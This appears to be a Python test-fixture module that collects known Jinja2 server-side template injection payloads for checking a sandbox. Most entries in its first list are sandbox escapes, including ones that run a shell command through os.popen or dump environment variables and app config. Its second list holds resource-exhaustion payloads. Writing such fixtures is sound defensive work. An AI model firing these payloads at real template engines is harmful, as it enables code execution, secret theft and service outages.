"""Known Jinja2 sandbox escapes (from published SSTI write-ups and Jinja's own advisories) and
resource payloads, as a template author or a hostile import would write them."""

from __future__ import annotations

ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ().__class__.__bases__[0].__subclasses__() }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{{ c.__name__ }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.environ }}",
    "{{ namespace.__init__.__globals__.os.environ }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{{ range.__self__ }}",
    "{{ dict.__base__.__subclasses__() }}",
    "{{ contact.__class__.__init__.__globals__ }}",
    "{{ contact|attr('__class__') }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ ''|attr('__class__')|attr('__mro__') }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(cycler) }}",
    "{{ '{0.__class__}'.format(contact) }}",
    "{{ '%s'|format(cycler.__init__) }}",
    "{{ config.items() }}",
    "{{ request.application.__globals__ }}",
    "{{ environment }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__['os'] }}",
    "{{ [].pop() }}{{ contact.attributes.update({'x': 1}) }}",
    "{{ contact.attributes.clear() }}",
    "{% set ns = namespace() %}{% set ns.__class__ = 1 %}{{ ns }}",
    "{{ caller }}{{ varargs }}{{ kwargs }}",
    "{{ loop }}",
    "{{ unsubscribe_url.__class__.__mro__ }}",
    "{{ (1).__class__.__subclasses__() }}",
    "{{ coupon.get.__self__.__class__ }}",
]

RESOURCE = [
    "{{ 'x'|center(50000000) }}",
    "{{ '%050000000d'|format(1) }}",
    "{{ '%050000000d' % 1 }}",
    "{{ '%*d' % (50000000, 1) }}",
    "{{ '{:>50000000}'.format(1) }}",
    "{{ '{:>{w}}'.format(1, w=50000000) }}",
    "{{ 'a'.ljust(50000000) }}",
    "{{ 'a'.rjust(50000000) }}",
    "{{ 'a'.zfill(50000000) }}",
    "{{ ('\\t' * 1000).expandtabs(100000) }}",
    "{{ ('a\\n' * 50000)|indent(1000) }}",
    "{% set s = 'aaaaaaaaaa' %}{{ s|replace('a', s)|replace('a', s)|replace('a', s)"
    "|replace('a', s)|replace('a', s)|replace('a', s) }}",
    "{% set s = 'aaaaaaaaaa' %}{{ s.replace('a', s).replace('a', s).replace('a', s)"
    ".replace('a', s).replace('a', s).replace('a', s) }}",
    "{% set ns = namespace(x='ab') %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}"
    "{% endfor %}{{ ns.x|length }}",
    "{% set ns = namespace(x='ab') %}{% for i in range(64) %}{% set ns.x = ns.x + ns.x %}"
    "{% endfor %}{{ ns.x|length }}",
    "{% set ns = namespace(x=[1]) %}{% for i in range(64) %}{% set ns.x = ns.x + ns.x %}"
    "{% endfor %}{{ ns.x|length }}",
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
    "{% macro m(n) %}{% for i in range(100) %}{{ m(n) if n else '' }}{% endfor %}{% endmacro %}"
    "{{ m(1) }}",
    "{{ lipsum(20000) }}",
    "{{ 'a' * 10**9 }}",
    "{{ [0] * 10**7 }}",
    "{{ 2 ** 100000000 }}",
    "{{ range(10**9)|list|length }}",
    "{% set x %}{% for i in range(100000) %}{{ 'y' * 1000 }}{% endfor %}{% endset %}{{ x|length }}",
    "{{ ('y' * 100000)|wordwrap(1, true, 'z' * 100) }}",
    "{{ (['y' * 1000] * 1000)|join('w' * 100000) }}",
    "{{ 'a'|center(99999)|center(99999) * 100 }}",
]
